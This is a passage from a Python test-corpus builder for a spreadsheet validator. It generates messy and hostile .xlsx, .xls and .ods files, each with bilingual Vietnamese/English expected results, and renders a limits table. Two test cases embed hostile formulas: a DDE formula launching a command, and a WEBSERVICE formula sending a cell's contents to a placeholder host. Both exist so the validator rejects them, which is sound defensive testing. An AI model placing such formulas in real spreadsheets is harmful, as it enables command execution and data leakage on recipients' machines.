        "Như cong-thuc-hyperlink.xlsx, lưu dạng Excel 97–2003 (.xls): tệp không giữ chữ của công thức.",
        "cong-thuc-hyperlink.xlsx saved as .xls, which keeps no formula text.",
        "Đề nghị cơ quan gõ trực tiếp nội dung hoặc gửi lại dạng .xlsx.",
        "Ask the agency to type the text, or to resend as .xlsx.",
        where=(f"{DATA}!{CAUSE}",),
        convert="xls",
    ),
    Case(
        "cong-thuc-dde.xlsx",
        _cause_formula("cmd|' /C calc'!A0", UNICODE_CAUSE),
        "E_FORMULA_UNSAFE",
        1,
        "Nguyên nhân là công thức DDE cmd|' /C calc'!A0 (chạy lệnh khi mở tệp) có giá trị đã lưu.",
        "The cause is a DDE formula cmd|' /C calc'!A0 (runs a command when opened) with a cached value.",
        "Không mở tệp bằng Excel; đề nghị cơ quan gõ trực tiếp nội dung và gửi lại.",
        "Do not open it in Excel; ask the agency to type the text and resend.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "cong-thuc-webservice.xlsx",
        _cause_formula('_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&B6)', UNICODE_CAUSE),
        "E_FORMULA_UNSAFE",
        1,
        "Nguyên nhân là công thức WEBSERVICE gửi nội dung ô B6 ra ngoài, có giá trị đã lưu.",
        "The cause is a WEBSERVICE formula sending cell B6 out, with a cached value.",
        "Không mở tệp bằng Excel; đề nghị cơ quan gõ trực tiếp nội dung và gửi lại.",
        "Do not open it in Excel; ask the agency to type the text and resend.",
        where=(f"{DATA}!{CAUSE}",),
    ),
    Case(
        "xlsx-doi-ten.xls",
        _copy,
        None,
        0,
        "Tệp .xlsx hợp lệ bị đổi đuôi thành .xls.",
        "A valid .xlsx renamed .xls.",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "hop-le.xls",
        _copy,
        None,
        0,
        "Tệp hợp lệ lưu lại dạng .xls bằng LibreOffice.",
        "A valid file saved as .xls by LibreOffice.",
        _NOTHING_VI,
        _NOTHING_EN,
        convert="xls",
    ),
    Case(
        "hop-le.ods",
        _copy,
        None,
        0,
        "Tệp hợp lệ lưu lại dạng .ods bằng LibreOffice.",
        "A valid file saved as .ods by LibreOffice.",
        _NOTHING_VI,
        _NOTHING_EN,
        convert="ods",
    ),
    Case(
        "o-gop.ods",
        _merged,
        "E_MERGED_CELL",
        1,
        "Như o-gop.xlsx, lưu dạng .ods.",
        "o-gop.xlsx saved as .ods.",
        "Như o-gop.xlsx.",
        "As o-gop.xlsx.",
        where=(f"{DATA}!D6", f"{DATA}!E9"),
        absent=("E_REQUIRED_MISSING",),
        convert="ods",
    ),
    Case(
        "o-gop.xls",
        _merged,
        "E_MERGED_CELL",
        1,
        "Như o-gop.xlsx, lưu dạng .xls.",
        "o-gop.xlsx saved as .xls.",
        "Như o-gop.xlsx.",
        "As o-gop.xlsx.",
        where=(f"{DATA}!D6", f"{DATA}!E9"),
        absent=("E_REQUIRED_MISSING",),
        convert="xls",
    ),
    Case(
        "dong-an.ods",
        _hidden_rows,
        "W_HIDDEN_ROW",
        0,
        "Như dong-an.xlsx, lưu dạng .ods.",
        "dong-an.xlsx saved as .ods.",
        "Như dong-an.xlsx.",
        "As dong-an.xlsx.",
        where=(f"{DATA}!A6", f"{DATA}!A7"),
        convert="ods",
    ),
    Case(
        "dong-an.xls",
        _hidden_rows,
        "W_HIDDEN_ROW",
        0,
        "Như dong-an.xlsx, lưu dạng .xls.",
        "dong-an.xlsx saved as .xls.",
        "Như dong-an.xlsx.",
        "As dong-an.xlsx.",
        where=(f"{DATA}!A6", f"{DATA}!A7"),
        convert="xls",
    ),
    Case(
        "loi-chia-0.ods",
        _div0_formula,
        "E_FORMULA_ERROR",
        1,
        "Ô E6 = 1/0, lưu dạng .ods.",
        "E6 = 1/0, saved as .ods.",
        "Như loi-chia-0.xlsx.",
        "As loi-chia-0.xlsx.",
        where=(f"{DATA}!{VALUE}",),
        absent=("E_REQUIRED_MISSING",),
        convert="ods",
    ),
    Case(
        "loi-chia-0.xls",
        _div0_formula,
        "E_FORMULA_ERROR",
        1,
        "Ô E6 = 1/0, lưu dạng .xls.",
        "E6 = 1/0, saved as .xls.",
        "Như loi-chia-0.xlsx.",
        "As loi-chia-0.xlsx.",
        where=(f"{DATA}!{VALUE}",),
        absent=("E_REQUIRED_MISSING",),
        convert="xls",
    ),
    Case(
        "vung-lon-nhat.xlsx",
        _largest_grid(False),
        None,
        0,
        "Giá trị ở I50 và CU15000: vùng 15.000 dòng × 99 cột, gần lớn nhất trong giới hạn.",
        "Values at I50 and CU15000: a 15,000 x 99 grid, near the largest the limits allow.",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "vung-lon-nhat.ods",
        _largest_grid(True),
        None,
        0,
        "Như vung-lon-nhat.xlsx nhưng là công thức, lưu dạng .ods.",
        "As vung-lon-nhat.xlsx with formulas, saved as .ods.",
        _NOTHING_VI,
        _NOTHING_EN,
        convert="ods",
    ),
    Case(
        "vung-lon-nhat.xls",
        _largest_grid(True),
        None,
        0,
        "Như vung-lon-nhat.xlsx nhưng là công thức, lưu dạng .xls.",
        "As vung-lon-nhat.xlsx with formulas, saved as .xls.",
        _NOTHING_VI,
        _NOTHING_EN,
        convert="xls",
    ),
    Case(
        "lon-trong-gioi-han.xlsx",
        _big_but_allowed,
        None,
        0,
        "Trang số liệu thêm ~300.000 ô ghi chú (J41:AM10000), trong mọi giới hạn.",
        "The data sheet with ~300,000 more note cells (J41:AM10000), inside every limit.",
        _NOTHING_VI,
        _NOTHING_EN,
    ),
    Case(
        "anh-lon.xlsx",
        _large_picture,
        None,
        0,
        "Biểu mẫu kèm một hình ảnh 22 MB (xl/media/image1.png): lớn hơn giới hạn một thành phần, "
        "nhưng hình ảnh không bao giờ được phân tích.",
        "The template with one 22 MB picture (xl/media/image1.png): over the one-member limit, "
        "but pictures are never parsed.",
        "Không cần làm gì; số liệu được đọc bình thường.",
        "Nothing; the figures are read as usual.",
    ),
]
BY_NAME = {c.name: c for c in CASES}


def build_corpus(out: Path, cases: list[Case] | None = None, ctx: Ctx | None = None) -> dict[str, Path]:
    """Write every case into `out`; LibreOffice runs once per target format."""
    cases = CASES if cases is None else cases
    out.mkdir(parents=True, exist_ok=True)
    ctx = ctx or Ctx(out.parent / f"{out.name}-work")
    files: dict[str, Path] = {}
    pending: dict[str, list[tuple[Case, Path]]] = {"xls": [], "ods": []}
    for case in cases:
        if case.convert:
            source = ctx.work / case.convert / f"{case.stem}.xlsx"
            source.parent.mkdir(parents=True, exist_ok=True)
            case.build(ctx, source)
            pending[case.convert].append((case, source))
        else:
            target = out / case.name
            case.build(ctx, target)
            files[case.name] = target
    for fmt, items in pending.items():
        if not items:
            continue
        converted = soffice_convert([s for _, s in items], ctx.work / f"{fmt}-out", fmt)
        for (case, _), path in zip(items, converted, strict=True):
            target = out / case.name
            shutil.move(path, target)
            if case.post:
                case.post(target)
            files[case.name] = target
    return files


def render_doc(cases: list[Case] | None = None) -> str:
    """docs/hostile-files.md: the table of cases, in Vietnamese then English."""
    cases = CASES if cases is None else cases

    def code(case: Case) -> str:
        return f"`{case.code}`" if case.code else "—"

    def where(case: Case) -> str:
        return ", ".join(case.where) if case.where else ""

    lines = [
        "# Tệp độc hại và tệp lộn xộn / Hostile and messy files",
        "",
        "Bảng này được sinh từ `tests/corpus.py` (`python tests/corpus.py --doc > docs/hostile-files.md`);",
        "`tests/test_hostile.py` kiểm tra từng dòng bằng lệnh thật `bgindex validate --year 2024`.",
        "Mã thoát: 0 không có lỗi, 1 có lỗi số liệu, 3 tệp không đọc được hoặc không an toàn.",
        "",
        "This table is generated from `tests/corpus.py`; `tests/test_hostile.py` checks every row with",
        "the real `bgindex validate --year 2024`. Exit: 0 clean, 1 data errors, 3 unreadable or unsafe.",
        "",
        "## Tiếng Việt",
        "",
        "| Tệp | Tệp là gì | Mã | Ô | Thoát | Cán bộ nên làm gì |",
        "|---|---|---|---|---|---|",
    ]
    lines += [f"| `{c.name}` | {c.vi} | {code(c)} | {where(c)} | {c.exit} | {c.todo_vi} |" for c in cases]
    lines += [
        "",
        "## English",
        "",
        "| File | What it is | Code | Cell | Exit | What the officer should do |",
        "|---|---|---|---|---|---|",
    ]
    lines += [f"| `{c.name}` | {c.en} | {code(c)} | {where(c)} | {c.exit} | {c.todo_en} |" for c in cases]
    from bgindex.intake import limits as S

    def n(x: int) -> str:
        return f"{x:,}".replace(",", ".")

    limits = [
        ("Dung lượng tệp / file size", f"{S.MAX_FILE_BYTES // 2**20} MB"),
        ("Thành phần nén / zip members", n(S.MAX_MEMBERS)),
        (
            "Giải nén: một thành phần / tổng / member, total uncompressed",
            f"{S.MAX_MEMBER_UNCOMPRESSED // 2**20} MB / {S.MAX_TOTAL_UNCOMPRESSED // 2**20} MB",
        ),
        (
            "Giải nén: hình ảnh (xl/media, Pictures; không phân tích) / pictures uncompressed (never parsed)",
            f"{S.MAX_MEDIA_UNCOMPRESSED // 2**20} MB",
        ),
        ("Tỷ lệ nén (thành phần trên 2 MB) / compression ratio (members over 2 MB)", f"{S.MAX_RATIO}:1"),
        ("Trang tính / sheets", n(S.MAX_SHEETS)),
        (
            "Ô xa nhất một trang được đọc / farthest cell of a sheet that is read",
            f"dòng/row {n(S.MAX_ROWS)}, cột/column {n(S.MAX_COLS)}",
        ),
        ("Lưới ô (từ A1 đến ô cuối) của mọi trang được đọc / grid cells of the sheets read", n(S.MAX_CELLS)),
        ("Phần tử XML các trang tính / sheet XML elements", n(S.MAX_XML_ELEMENTS)),
        ("Bản ghi BIFF (.xls) / BIFF records", n(S.MAX_RECORDS)),
        ("Vùng gộp ô một trang / merged ranges per sheet", n(S.MAX_MERGES)),
    ]
    lines += [
        "",
        "## Giới hạn / Limits (`bgindex.intake.limits`)",
        "",
        "Kiểm tra trước khi mở tệp; vượt giới hạn là `E_FILE_UNSAFE`, `E_FILE_TOO_LARGE` hoặc",
        "`E_SHEET_TOO_LARGE`. / Checked before any parser runs.",
        "",
        "| Giới hạn / Limit | Giá trị / Value |",
        "|---|---|",
    ]
    lines += [f"| {what} | {value} |" for what, value in limits]
    lines += [
        "",
        "## Ghi chú / Notes",
        "",
        "- `.xls` và `.ods` được trình đọc nạp toàn bộ khi mở tệp, nên một ô ở quá xa trên *bất kỳ* trang",
        "  nào cũng làm tệp bị từ chối (`E_SHEET_TOO_LARGE`); với `.xlsx`, trang thừa không dùng đến thì",
        "  được bỏ qua. / `.xls` and `.ods` are read whole when opened, so a far cell on *any* sheet",
        "  refuses the file; in an `.xlsx` an unused extra sheet is skipped.",
        '- Khi ô mã bị gộp, các lỗi "thiếu dòng số liệu" do việc gộp gây ra không được báo thêm; bỏ gộp',
        "  rồi kiểm tra lại sẽ thấy nếu còn thiếu. / When code cells are merged, the missing-row errors",
        "  the merge causes are not reported on top; unmerge and validate again.",
        "",
    ]
    return "\n".join(lines)


if __name__ == "__main__":
    if sys.argv[1:] == ["--doc"]:
        sys.stdout.write(render_doc())
    elif len(sys.argv) == 2:
        for name, path in build_corpus(Path(sys.argv[1])).items():
            print(f"{name}\t{path}")
    else:
        print("usage: python tests/corpus.py --doc | OUT_DIR", file=sys.stderr)
        sys.exit(2)
